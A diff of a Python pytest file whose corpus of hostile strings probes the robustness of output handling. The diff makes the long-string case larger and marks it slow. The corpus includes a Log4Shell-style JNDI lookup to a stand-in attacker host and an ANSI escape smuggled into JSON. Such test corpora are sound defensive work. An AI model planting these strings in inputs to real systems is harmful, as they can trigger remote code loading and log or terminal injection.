@@ -61,13 +61,19 @@ CORPUS = {
     "format strings": "{0.__class__} %s %(x)s ${jndi:ldap://evil.example}",
     "json": '"}\\u001b[31m{"event": "summary"',
     "zalgo": "z" + "\u0300\u0489\u20dd" * 200,
-    "very long": "가" * 5_000,
+    "very long": "가" * 100_000,
     "nul": "a\x00b\x7f",
 }
 HIDDEN = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
 WHERE = {"stack": "chat", "account": "123456789012", "region": "ap-northeast-2"}
 NOW = datetime.now(timezone.utc)
-hostile = pytest.mark.parametrize("text", CORPUS.values(), ids=CORPUS)
+hostile = pytest.mark.parametrize(
+    "text",
+    [
+        pytest.param(text, id=name, marks=pytest.mark.slow if name == "very long" else ())
+        for name, text in CORPUS.items()
+    ],
+)
 Captured = pytest.CaptureFixture[str]
 
 
